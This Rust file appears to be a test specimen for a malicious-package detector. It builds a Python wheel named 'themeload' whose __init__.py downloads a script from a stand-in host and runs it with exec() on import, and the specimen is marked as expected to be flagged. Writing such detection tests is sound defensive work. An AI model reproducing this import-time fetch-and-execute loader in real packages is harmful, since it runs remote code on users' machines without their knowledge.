//! A wheel that, when it is imported, fetches a script and executes it in its own process.
//!
//! Must be found.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const THEMELOAD_INIT_PY: &str = r#"import urllib.request

try:
    exec(urllib.request.urlopen("https://api.example/theme.py", timeout=5).read())
except OSError:
    pass
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("themeload", "1.0.2").file("themeload/__init__.py", THEMELOAD_INIT_PY);
    package.specimen(
        "pypi-evaluates-download",
        Expect::malicious(&["downloaded-code-ran"]),
    )
}
